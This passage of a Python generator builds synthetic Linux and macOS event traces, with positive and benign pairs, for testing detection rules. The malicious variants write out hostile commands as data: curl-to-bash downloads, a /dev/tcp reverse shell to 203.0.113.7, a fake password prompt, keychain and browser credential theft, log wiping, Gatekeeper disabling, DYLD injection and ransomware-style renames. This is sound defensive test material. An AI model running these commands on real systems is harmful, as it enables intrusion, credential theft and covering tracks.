        w = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/.k/enc.py"])
        for f in files:
            t.open(w, f)
            t.write(w, f)
            t.tick(25)
    else:
        # unzip an archive of 60 documents, and an editor saving a few files
        u = t.spawn(sh, "/usr/bin/unzip", ["unzip", "invoices.zip"], cwd="/home/alice/Documents/invoices")
        for f in files:
            t.write(u, f, create=True)
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "fix_names.py"])
        for f in files[:10]:
            t.write(py, f)
    return t


# -- demonstration ------------------------------------------------------------

def demo_trace(t: Trace, parent, pos: bool, shell: str):
    # ES reports the resolved path: /tmp is a symlink to /private/tmp on macOS
    M1 = ("/private" if t.os == "macos" else "") + "/tmp/bm_change_file_test_1.txt"
    M2 = ("/private" if t.os == "macos" else "") + "/tmp/bm_change_file_test_2.txt"
    if pos:
        # bm demo: sh -c 'echo x >> M1; echo x >> M2' — the shell does the writes
        s = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M1}; echo x >> {M2}"])
        t.open(s, M1)
        t.file(s, "close_modified", M1)
        t.tick(5)
        t.open(s, M2)
        t.file(s, "close_modified", M2)
    else:
        # two different shells each append to one marker; a reader looks at both
        s1 = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M1}"])
        t.file(s1, "close_modified", M1)
        t.exit(s1)
        s2 = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M2}"])
        t.file(s2, "close_modified", M2)
        t.exit(s2)
        cat = t.spawn(parent, "/bin/cat" if t.os == "macos" else "/usr/bin/cat", ["cat", M1, M2])
        t.open(cat, M1)
        t.open(cat, M2)


@scenario("linux", "bm_change_file_test")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    demo_trace(t, sh, pos, "/usr/bin/dash")
    return t


# ============================================================ macOS ==========

def msh(t: Trace, user: str = "alice", uid: int = 501):
    return macos_terminal_shell(t, user, uid)


def mspawn(t: Trace, parent, exe: str, args: list[str], **kw):
    """A platform binary run from a shell (signing facts as ES gives them)."""
    if "signing" not in kw and (exe.startswith("/usr/") or exe.startswith("/bin/")
                                or exe.startswith("/sbin/") or exe.startswith("/System/")):
        kw["signing"] = asig(exe.rsplit("/", 1)[-1])
    return t.spawn(parent, exe, args, **kw)


def mroot(t: Trace) -> object:
    return msh(t, "root", 0)


@scenario("macos", "fetch_pipe_shell")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/curl", ["curl", "-fsSL", "https://203.0.113.7/install"], stdout="pipe")
        mspawn(t, sh, "/bin/bash", ["bash"], stdin="pipe", stdout="tty")
    else:
        mspawn(t, sh, "/usr/bin/curl", ["curl", "-s", "https://api.github.com/x"], stdout="pipe")
        mspawn(t, sh, "/usr/bin/python3", ["python3", "-m", "json.tool"], stdin="pipe")
        mspawn(t, sh, "/bin/bash", ["bash", "build.sh"])
    return t


@scenario("macos", "fetch_pipe_shell_reversed")
def _(pos: bool):
    # the shell reading the pipe execs before the downloader
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
        mspawn(t, sh, "/usr/bin/curl", ["curl", "-fsSL", "https://203.0.113.7/install"], stdout="pipe")
    else:
        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
        mspawn(t, sh, "/bin/cat", ["cat", "setup.sh"], stdout="pipe")
        mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", "x.tgz", "https://example.org/x.tgz"],
               stdout="tty")
    return t


@scenario("macos", "drop_exec_temp_lineage")
def _(pos: bool):
    # a downloader script runs what it wrote itself
    t = mt()
    sh = msh(t)
    py = mspawn(t, sh, "/usr/bin/python3", ["python3", "fetch.py"])
    if pos:
        t.write(py, "/Users/Shared/.agent", create=True)
        t.spawn(py, "/Users/Shared/.agent", ["/Users/Shared/.agent"], stdin="null", stdout="null")
    else:
        t.write(py, "/private/tmp/out.json", create=True)
        mspawn(t, py, "/usr/bin/plutil", ["plutil", "-p", "/private/tmp/out.json"])
    return t


@scenario("macos", "drop_exec_temp")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    path = "/private/tmp/updater" if pos else "/Users/alice/bin/updater"
    c = mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", path, "https://203.0.113.7/u"])
    t.write(c, path, create=True)
    t.exit(c)
    mspawn(t, sh, "/bin/chmod", ["chmod", "+x", path])
    t.spawn(sh, path, [path])
    return t


@scenario("macos", "reverse_shell_socket")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        py = mspawn(t, sh, "/usr/bin/python3", ["python3", "/Users/alice/.local/x.py"])
        mspawn(t, py, "/bin/zsh", ["/bin/zsh", "-i"], stdin="socket", stdout="socket")
    else:
        mspawn(t, sh, "/bin/zsh", ["/bin/zsh", "-i"])
        sshd = t.root("/usr/libexec/sshd-session", ["sshd-session: alice"], signing=asig("sshd"),
                      ppid=1, parent_exe="/sbin/launchd")
        mspawn(t, sshd, "/bin/zsh", ["zsh", "-c", "uptime"], stdin="socket", stdout="socket")
    return t


@scenario("macos", "dev_tcp_redirect")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/8443 0>&1"])
    else:
        mspawn(t, sh, "/usr/bin/grep", ["grep", "-r", "/dev/tcp/", "notes/"])
        mspawn(t, sh, "/bin/bash", ["bash", "-c", "</dev/tcp/localhost/5432 && echo up"])
        mspawn(t, sh, "/bin/zsh", ["zsh", "-c", "zmodload zsh/datetime; echo $EPOCHSECONDS"])
    return t


@scenario("macos", "script_pty_spawn")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn('/bin/zsh')"])
    else:
        mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", "import socket;print(socket.gethostname())"])
    return t


@scenario("macos", "decode_pipe_shell")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    t.fork(sh, stdout="pipe")
    mspawn(t, sh, "/usr/bin/base64", ["base64", "-D"], stdin="pipe", stdout="pipe")
    if pos:
        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
    else:
        mspawn(t, sh, "/usr/bin/plutil", ["plutil", "-p", "-"], stdin="pipe", stdout="tty")
    return t


@scenario("macos", "decode_pipe_shell_reversed")
def _(pos: bool):
    # the shell reading the pipe execs before the decoder
    t = mt()
    sh = msh(t)
    t.fork(sh, stdout="pipe")
    if pos:
        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
    else:
        mspawn(t, sh, "/usr/bin/plutil", ["plutil", "-p", "-"], stdin="pipe", stdout="tty")
    mspawn(t, sh, "/usr/bin/base64", ["base64", "-D"], stdin="pipe", stdout="pipe")
    return t


@scenario("macos", "script_decode_exec")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    code = ("import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" if pos
            else "import base64;print(base64.b64decode('aGVsbG8='))")
    mspawn(t, sh, "/usr/bin/python3", ["python3", "-c", code])
    return t


@scenario("macos", "osascript_password_prompt")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        app = t.spawn(sh, "/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer",
                      ["/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer"])
        mspawn(t, app, "/usr/bin/osascript", [
            "osascript", "-e",
            'display dialog "macOS needs to access System Settings. Please enter your password." '
            'default answer "" with title "System Preferences" with icon caution with hidden answer'])
    else:
        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'display notification "Build finished" with title "make"'])
        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'display dialog "Deploy to production?" buttons {"Cancel", "OK"}'])
    return t


@scenario("macos", "launch_agent_write")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        app = t.spawn(sh, "/Users/alice/Downloads/Player.app/Contents/MacOS/Player", ["Player"])
        t.write(app, "/Users/alice/Library/LaunchAgents/com.apple.updates.plist", create=True)
    else:
        ruby = t.spawn(sh, "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby",
                       ["ruby", "/opt/homebrew/Library/Homebrew/brew.rb", "services", "start", "postgresql@16"])
        t.write(ruby, "/Users/alice/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist", create=True)
        t.spawn(sh, "/usr/bin/plutil", ["plutil", "-lint", "/Users/alice/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist"])
    return t


@scenario("macos", "launch_daemon_write")
def _(pos: bool):
    t = mt()
    if pos:
        sh = mroot(t)
        cp = mspawn(t, sh, "/bin/cp", ["cp", "/private/tmp/a.plist", "/Library/LaunchDaemons/com.apple.sysmond.plist"])
        t.write(cp, "/Library/LaunchDaemons/com.apple.sysmond.plist", create=True)
    else:
        inst = t.root("/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/installd",
                      ["installd"], signing=asig("installd"), parent_exe="/sbin/launchd")
        pss = t.spawn(inst, "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices/package_script_service.xpc/Contents/MacOS/package_script_service",
                      ["package_script_service"], signing=asig("package_script_service"))
        post = mspawn(t, pss, "/bin/sh", ["/bin/sh", "/tmp/PKInstallSandbox.x/Scripts/postinstall"])
        cp = mspawn(t, post, "/bin/cp", ["cp", "com.docker.vmnetd.plist", "/Library/LaunchDaemons/"])
        t.write(cp, "/Library/LaunchDaemons/com.docker.vmnetd.plist", create=True)
        t.write(inst, "/Library/LaunchDaemons/com.microsoft.autoupdate.helper.plist", create=True)
    return t


@scenario("macos", "launch_item_suspicious")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        a = t.spawn(sh, "/Users/Shared/.pkg/agent", ["/Users/Shared/.pkg/agent"])
        t.launch_item_add(a, "/Users/alice/Library/LaunchAgents/com.pkg.agent.plist", "/Users/Shared/.pkg/agent")
    else:
        a = t.spawn(sh, "/Applications/Slack.app/Contents/MacOS/Slack", ["Slack"])
        t.launch_item_add(a, "/Applications/Slack.app", "/Applications/Slack.app/Contents/MacOS/Slack")
    return t


@scenario("macos", "launch_item_add")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        a = t.spawn(sh, "/Users/alice/Downloads/helper", ["./helper"])
        t.launch_item_add(a, "/Users/alice/Library/LaunchAgents/com.helper.plist", "/Users/alice/Library/Application Support/helper/helper")
    else:
        a = t.spawn(sh, "/Applications/Docker.app/Contents/MacOS/Docker", ["Docker"])
        t.launch_item_add(a, "/Applications/Docker.app", "/Applications/Docker.app/Contents/MacOS/Docker")
    return t


@scenario("macos", "login_item_osascript")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e",
               'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.x/agent", hidden:true}'])
    else:
        mspawn(t, sh, "/usr/bin/osascript", ["osascript", "-e", 'tell application "System Events" to get the name of every login item'])
    return t


@scenario("macos", "cron_file_write")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        ct = mspawn(t, sh, "/usr/bin/crontab", ["crontab", "-"], stdin="pipe")
        t.write(ct, "/private/var/at/tabs/alice", create=True)
    else:
        mspawn(t, sh, "/usr/bin/crontab", ["crontab", "-l"])
        c = mspawn(t, sh, "/bin/cat", ["cat", "/private/etc/crontab"])
        t.open(c, "/private/etc/crontab")
    return t


@scenario("macos", "shell_rc_write")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        py = mspawn(t, sh, "/usr/bin/python3", ["python3", "/Users/alice/Downloads/setup.py"])
        t.write(py, "/Users/alice/.zshrc")
    else:
        v = mspawn(t, sh, "/usr/bin/vim", ["vim", "/Users/alice/.zshrc"])
        t.write(v, "/Users/alice/.zshrc")
        t.write(sh, "/Users/alice/.zshrc")  # echo 'export PATH=...' >> ~/.zshrc
    return t


@scenario("macos", "authorized_keys_write")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        c = mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", "/Users/alice/.ssh/authorized_keys", "https://203.0.113.7/k"])
        t.write(c, "/Users/alice/.ssh/authorized_keys")
    else:
        v = mspawn(t, sh, "/usr/bin/vim", ["vim", "/Users/alice/.ssh/authorized_keys"])
        t.write(v, "/Users/alice/.ssh/authorized_keys")
        k = mspawn(t, sh, "/usr/bin/ssh-keygen", ["ssh-keygen", "-t", "ed25519"])
        t.write(k, "/Users/alice/.ssh/id_ed25519.pub", create=True)
    return t


@scenario("macos", "quarantine_removed")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", "/Users/alice/Downloads/tool"])
        t.file(x, "deletexattr", "/Users/alice/Downloads/tool", xattr="com.apple.quarantine")
    else:
        x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.metadata:kMDItemWhereFroms", "/Users/alice/Downloads/a.pdf"])
        t.file(x, "deletexattr", "/Users/alice/Downloads/a.pdf", xattr="com.apple.metadata:kMDItemWhereFroms")
    return t


@scenario("macos", "xattr_quarantine_cmd")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-cr", "/Users/alice/Downloads/Cracked.app"])
    else:
        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-l", "/Users/alice/Downloads/Cracked.app"])
        mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-p", "com.apple.quarantine", "/Users/alice/Downloads/a.dmg"])
    return t


@scenario("macos", "quarantine_strip_exec")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    path = "/Users/alice/Downloads/tool"
    x = mspawn(t, sh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", path])
    t.file(x, "deletexattr", path, xattr="com.apple.quarantine")
    t.exit(x)
    if pos:
        t.spawn(sh, path, [path])
    else:
        t.spawn(sh, "/Users/alice/Downloads/other", ["/Users/alice/Downloads/other"])
    return t


@scenario("macos", "gatekeeper_disable")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    if pos:
        mspawn(t, sh, "/usr/sbin/spctl", ["spctl", "--master-disable"])
    else:
        mspawn(t, sh, "/usr/sbin/spctl", ["spctl", "--status"])
        mspawn(t, sh, "/usr/bin/defaults", ["defaults", "read", "com.apple.LaunchServices", "LSQuarantine"])
    return t


@scenario("macos", "history_file_delete")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        rm = mspawn(t, sh, "/bin/rm", ["rm", "-f", "/Users/alice/.zsh_history"])
        t.unlink(rm, "/Users/alice/.zsh_history")
    else:
        t.write(sh, "/Users/alice/.zsh_history.new", create=True)
        t.rename(sh, "/Users/alice/.zsh_history.new", "/Users/alice/.zsh_history")
        t.unlink(sh, "/Users/alice/.zsh_history")  # zsh replaces its own history file
    return t


@scenario("macos", "log_deletion")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    logs = ["/private/var/log/system.log", "/private/var/log/install.log", "/private/var/log/wifi.log",
            "/private/var/audit/20261127100000.not_terminated"]
    if pos:
        rm = mspawn(t, sh, "/bin/rm", ["rm", "-rf"] + logs)
        for p in logs:
            t.unlink(rm, p)
    else:
        ns = t.root("/usr/sbin/newsyslog", ["newsyslog"], signing=asig("newsyslog"), parent_exe="/sbin/launchd")
        for p in logs:
            t.unlink(ns, p + ".7.gz")
        rm = mspawn(t, sh, "/bin/rm", ["rm", "/Users/alice/Library/Logs/app.log"])
        t.unlink(rm, "/Users/alice/Library/Logs/app.log")
    return t


@scenario("macos", "unified_log_erase")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    if pos:
        mspawn(t, sh, "/usr/bin/log", ["log", "erase", "--all"])
    else:
        mspawn(t, sh, "/usr/bin/log", ["log", "show", "--last", "1h", "--predicate", "process == \"sshd\""])
    return t


@scenario("macos", "chflags_protect")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/chflags", ["chflags", "uchg", "/Users/alice/Library/LaunchAgents/com.x.plist"])
    else:
        mspawn(t, sh, "/usr/bin/chflags", ["chflags", "nohidden", "/Users/alice/Library"])
    return t


@scenario("macos", "timestomp")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/touch", ["touch", "-r", "/bin/ls", "/Users/alice/Library/LaunchAgents/com.x.plist"])
    else:
        mspawn(t, sh, "/usr/bin/touch", ["touch", "-t", "202611270900", "/Users/alice/project/stamp"])
    return t


@scenario("macos", "hidden_dir_exec")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        t.spawn(sh, "/Users/alice/Library/.hidden/svc", ["/Users/alice/Library/.hidden/svc"])
    else:
        t.spawn(sh, "/Users/alice/.cargo/bin/rg", ["rg", "TODO"])
        t.spawn(sh, "/Users/alice/Library/Application Support/Code/bin/code", ["code", "."])
    return t


@scenario("macos", "keychain_dump")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/security", ["security", "dump-keychain", "-d", "login.keychain"])
    else:
        mspawn(t, sh, "/usr/bin/security", ["security", "list-keychains"])
        mspawn(t, sh, "/usr/bin/security", ["security", "find-certificate", "-a", "-c", "Apple"])
    return t


@scenario("macos", "keychain_password_query")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/security", ["security", "find-generic-password", "-ws", "Chrome Safe Storage"])
    else:
        mspawn(t, sh, "/usr/bin/security", ["security", "find-generic-password", "-s", "gh:github.com"])
    return t


@scenario("macos", "keychain_file_copy")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/bin/cp", ["cp", "/Users/alice/Library/Keychains/login.keychain-db", "/private/tmp/k"])
    else:
        mspawn(t, sh, "/bin/ls", ["ls", "-l", "/Users/alice/Library/Keychains/"])
    return t


@scenario("macos", "browser_credential_access")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    prof = "/Users/alice/Library/Application Support/Google/Chrome/Default"
    if pos:
        sq = mspawn(t, sh, "/usr/bin/sqlite3", ["sqlite3", prof + "/Login Data", "select * from logins"])
        t.open(sq, prof + "/Login Data")
    else:
        ch = t.spawn(sh, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", ["Google Chrome"],
                     signing={"signing_id": "com.google.Chrome", "team_id": "EQHXZ8M8AV"})
        t.open(ch, prof + "/Login Data")
        sq = mspawn(t, sh, "/usr/bin/sqlite3", ["sqlite3", prof + "/History"])
        t.open(sq, prof + "/History")
    return t


@scenario("macos", "ssh_key_hunt")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/usr/bin/find", ["find", "/Users", "-name", "id_rsa*"])
    else:
        mspawn(t, sh, "/usr/bin/find", ["find", ".", "-name", "*.swift"])
    return t


@scenario("macos", "shadow_hash_dump")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    if pos:
        mspawn(t, sh, "/usr/bin/dscl", ["dscl", ".", "-read", "/Users/alice", "ShadowHashData"])
    else:
        mspawn(t, sh, "/usr/bin/dscl", ["dscl", ".", "-read", "/Users/alice", "RealName"])
    return t


MAC_RECON = [("/usr/bin/whoami", ["whoami"]), ("/usr/bin/id", ["id"]), ("/usr/bin/sw_vers", ["sw_vers"]),
             ("/usr/sbin/system_profiler", ["system_profiler", "SPHardwareDataType"]),
             ("/sbin/ifconfig", ["ifconfig"]), ("/usr/bin/csrutil", ["csrutil", "status"]),
             ("/usr/sbin/spctl", ["spctl", "--status"]), ("/bin/ps", ["ps", "aux"])]


@scenario("macos", "discovery_burst")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    parent = mspawn(t, sh, "/bin/sh", ["sh", "/private/tmp/i.sh"]) if pos else sh
    for i, (exe, args) in enumerate(MAC_RECON):
        c = mspawn(t, parent, exe, args, stdout="pipe")
        t.exit(c)
        t.tick(200 if pos else 15_000)
    if not pos:
        # jamf recon inventories the Mac with the same commands
        jamf = t.root("/usr/local/jamf/bin/jamf", ["/usr/local/jamf/bin/jamf", "recon"],
                      parent_exe="/sbin/launchd", signing={"signing_id": "com.jamfsoftware.jamf", "team_id": "483DWKW443"})
        for exe, args in MAC_RECON:
            c = mspawn(t, jamf, exe, args, stdout="pipe")
            t.exit(c)
            t.tick(100)
    return t


@scenario("macos", "setuid_chmod")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    mspawn(t, sh, "/bin/chmod", ["chmod", "4755" if pos else "0755", "/Users/Shared/helper"])
    return t


@scenario("macos", "sudoers_write")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    if pos:
        tee = mspawn(t, sh, "/usr/bin/tee", ["tee", "-a", "/private/etc/sudoers"], stdin="pipe")
        t.write(tee, "/private/etc/sudoers")
    else:
        vs = mspawn(t, sh, "/usr/sbin/visudo", ["visudo"])
        ed = mspawn(t, vs, "/usr/bin/vim", ["vim", "/private/etc/sudoers.tmp"])
        t.write(ed, "/private/etc/sudoers.tmp", create=True)
        t.rename(vs, "/private/etc/sudoers.tmp", "/private/etc/sudoers")
    return t


@scenario("macos", "dyld_insert_launchctl")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    if pos:
        mspawn(t, sh, "/bin/launchctl", ["launchctl", "setenv", "DYLD_INSERT_LIBRARIES", "/Users/Shared/.l/libinj.dylib"])
    else:
        mspawn(t, sh, "/bin/launchctl", ["launchctl", "setenv", "JAVA_HOME", "/Library/Java/Home"])
    return t


@scenario("macos", "dyld_insert_env")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    lib = "/private/tmp/libhook.dylib" if pos else "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib"
    mspawn(t, sh, "/usr/bin/env", ["env", f"DYLD_INSERT_LIBRARIES={lib}", "/Applications/Notes.app/Contents/MacOS/Notes"])
    return t


@scenario("macos", "rename_storm")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    files = [f"/Users/alice/Documents/thesis/chapter-{i:03d}.pages" for i in range(60)]
    if pos:
        w = t.spawn(sh, "/Users/alice/Downloads/Update.app/Contents/MacOS/Update", ["Update"])
        for f in files:
            t.write(w, f)
            t.rename(w, f, f + ".evilq")
            t.tick(30)
    else:
        fd = t.root("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", ["Finder"],
                    uid=501, signing=asig("finder"), parent_exe="/sbin/launchd")
        for i, f in enumerate(files):
            t.rename(fd, f, f"/Users/alice/Documents/thesis/ch{i:03d}.pages")
    return t


@scenario("macos", "rewrite_storm")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    files = [f"/Users/alice/Desktop/photos/IMG_{i:04d}.HEIC" for i in range(60)]
    if pos:
        w = t.spawn(sh, "/Users/Shared/.u/upd", ["upd"])
        for f in files:
            t.write(w, f)
            t.tick(25)
    else:
        d = mspawn(t, sh, "/usr/bin/ditto", ["ditto", "-x", "-k", "photos.zip", "/Users/alice/Desktop/photos"])
        for f in files:
            t.write(d, f, create=True)
    return t


@scenario("macos", "ransom_extension_rename")
def _(pos: bool):
    t = mt()
    sh = msh(t)
    files = [f"/Users/alice/Desktop/scan-{i:02d}.pdf" for i in range(12)]
    w = t.spawn(sh, "/Users/alice/Downloads/x/run", ["run"])
    for f in files:
        t.rename(w, f, f + (".encrypted" if pos else ".bak"))
    if not pos:
        # moved into place under a listed extension, but not the source plus an extension
        for i, f in enumerate(files):
            t.rename(w, f + ".bak", f"/Users/alice/Desktop/vault-{i:02d}.encrypted")
    return t


@scenario("macos", "bm_change_file_test")
def _(pos: bool):
    t = mt()
    sh = mroot(t)
    demo_trace(t, sh, pos, "/bin/sh")
    return t


# ============================================================ main ===========

def main() -> int:
    only = sys.argv[1:]
    n = 0
    for key, (os, fn) in SCENARIOS.items():
        if only and key not in only:
            continue
        rule = key.split("/", 1)[1]
        for kind, pos in (("pos", True), ("neg", False)):
            t = fn(pos)
            t.dump(OUT / os / f"{rule}.{kind}.jsonl")
            n += 1
    print(f"wrote {n} traces under {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
